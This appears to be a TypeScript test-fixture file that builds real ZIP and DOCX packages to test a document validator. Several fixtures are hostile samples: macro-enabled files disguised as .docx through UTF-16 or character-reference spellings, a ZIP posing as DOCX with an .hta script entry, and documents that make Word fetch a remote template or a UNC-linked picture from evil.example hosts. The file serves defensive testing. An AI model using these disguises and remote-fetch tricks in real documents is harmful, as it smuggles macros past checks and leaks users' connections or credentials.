/**
 * Real ZIP files for tests (local headers, central directory, end record), so DOCX checks meet
 * what Word writes. Entries are stored, or deflated when `deflate` is set.
 */
import { crc32, deflateRawSync } from "node:zlib";

export interface ZipFileEntry {
  name: string;
  data: Uint8Array | string;
  deflate?: boolean;
}

const bytesOf = (data: Uint8Array | string) =>
  typeof data === "string" ? new TextEncoder().encode(data) : data;

export function zip(entries: readonly ZipFileEntry[]): Uint8Array {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const raw = bytesOf(entry.data);
    const method = entry.deflate ? 8 : 0;
    const stored = entry.deflate ? deflateRawSync(raw) : Buffer.from(raw);
    const name = Buffer.from(entry.name, "utf8");
    const crc = crc32(raw);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(method, 8);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(stored.length, 18);
    local.writeUInt32LE(raw.length, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(method, 10);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(stored.length, 20);
    central.writeUInt32LE(raw.length, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, stored);
    centrals.push(central, name);
    offset += local.length + name.length + stored.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return new Uint8Array(Buffer.concat([...locals, directory, end]));
}

const DOCX_CONTENT_TYPES = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`;
const DOCM_CONTENT_TYPES = DOCX_CONTENT_TYPES.replace(
  "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
  "application/vnd.ms-word.document.macroEnabled.main+xml",
);
const DOCUMENT = `<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Survey of the roof</w:t></w:r></w:p></w:body></w:document>`;

/** The entries of a Word document: content types, relationships, the document, and filler to `size`. */
function wordEntries(contentTypes: string, extra: ZipFileEntry[] = []): ZipFileEntry[] {
  return [
    { name: "[Content_Types].xml", data: contentTypes, deflate: true },
    { name: "_rels/.rels", data: "<Relationships/>", deflate: true },
    { name: "word/document.xml", data: DOCUMENT, deflate: true },
    ...extra,
  ];
}

/** A ZIP of `entries` padded with a stored filler entry to exactly `size` bytes when it is smaller. */
function padded(entries: ZipFileEntry[], size: number | undefined): Uint8Array {
  if (size === undefined) return zip(entries);
  const filler = (length: number): ZipFileEntry => ({
    name: "word/media/filler.bin",
    data: new Uint8Array(length),
  });
  const overhead = zip([...entries, filler(0)]).length;
  return size > overhead ? zip([...entries, filler(size - overhead)]) : zip(entries);
}

export const docx = (size?: number) => padded(wordEntries(DOCX_CONTENT_TYPES), size);
/** A macro-enabled document (.docm) however it is named: its content types say so. */
export const docm = (size?: number) =>
  padded(wordEntries(DOCM_CONTENT_TYPES, [{ name: "word/vbaProject.bin", data: new Uint8Array(64) }]), size);
/** A DOCX that carries a VBA project but declares plain content types. */
export const docxWithVbaProject = () =>
  zip(wordEntries(DOCX_CONTENT_TYPES, [{ name: "word/vbaProject.bin", data: new Uint8Array(64) }]));
/** A .docm renamed: macro-enabled content type, no vbaProject.bin entry. */
export const docxWithMacroContentType = () => zip(wordEntries(DOCM_CONTENT_TYPES));
/** A ZIP whose bytes mention `[Content_Types].xml` and `word/` but whose directory holds no Word document. */
export const zipPosingAsDocx = () =>
  zip([
    { name: "notes.txt", data: "[Content_Types].xml word/document.xml" },
    { name: "payload/run.hta", data: "<script>alert(1)</script>" },
  ]);

/** `text` as UTF-16 with a byte order mark, as some tools write a package's XML. */
export function utf16(text: string, endian: "le" | "be"): Uint8Array {
  const little = Buffer.from(`\uFEFF${text}`, "utf16le");
  return new Uint8Array(endian === "le" ? little : little.swap16());
}

/** A .docm renamed .docx whose [Content_Types].xml is UTF-16 (no vbaProject.bin entry). */
export const docmWithUtf16ContentTypes = (endian: "le" | "be") =>
  zip([
    { name: "[Content_Types].xml", data: utf16(DOCM_CONTENT_TYPES.replace('"UTF-8"', '"UTF-16"'), endian) },
    ...wordEntries("").slice(1),
  ]);
/** A plain DOCX whose [Content_Types].xml is UTF-16: Word reads it, and so do we. */
export const docxWithUtf16ContentTypes = (endian: "le" | "be") =>
  zip([
    { name: "[Content_Types].xml", data: utf16(DOCX_CONTENT_TYPES.replace('"UTF-8"', '"UTF-16"'), endian) },
    ...wordEntries("").slice(1),
  ]);
/** A .docm renamed .docx whose macro content type is spelled with character references. */
export const docmWithCharacterReferences = (reference: "decimal" | "hex") =>
  zip(
    wordEntries(
      DOCM_CONTENT_TYPES.replace(
        "macroEnabled",
        reference === "decimal" ? "macro&#69;nabled" : "&#x6D;&#x61;&#x63;&#x72;&#x6F;Enabled",
      ),
    ),
  );

const SETTINGS = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/></w:settings>`;
const relationships = (relationship: string) =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationship}</Relationships>`;

/** A DOCX whose settings attach a template from the internet (Word fetches it on opening). */
export const docxWithRemoteTemplate = () =>
  zip(
    wordEntries(DOCX_CONTENT_TYPES, [
      { name: "word/settings.xml", data: SETTINGS, deflate: true },
      {
        name: "word/_rels/settings.xml.rels",
        data: relationships(
          '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://templates.evil.example/survey.dotm" TargetMode="External"/>',
        ),
        deflate: true,
      },
    ]),
  );
/** A DOCX whose document shows a picture linked from the internet rather than stored in it. */
export const docxWithLinkedPicture = () =>
  zip(
    wordEntries(DOCX_CONTENT_TYPES, [
      {
        name: "word/_rels/document.xml.rels",
        data: relationships(
          "<Relationship Id='rId7' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/image' Target='\\\\files.evil.example\\share\\roof.png' TargetMode='&#69;xternal'/>",
        ),
      },
    ]),
  );
/** A DOCX whose relationships stay inside the package (styles, settings): nothing to refuse. */
export const docxWithInternalRelationships = () =>
  zip(
    wordEntries(DOCX_CONTENT_TYPES, [
      {
        name: "word/settings.xml",
        data: SETTINGS.replace('<w:attachedTemplate r:id="rId1"/>', ""),
        deflate: true,
      },
      {
        name: "word/_rels/document.xml.rels",
        data: relationships(
          '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/settings" Target="settings.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml" TargetMode="Internal"/>',
        ),
        deflate: true,
      },
    ]),
  );
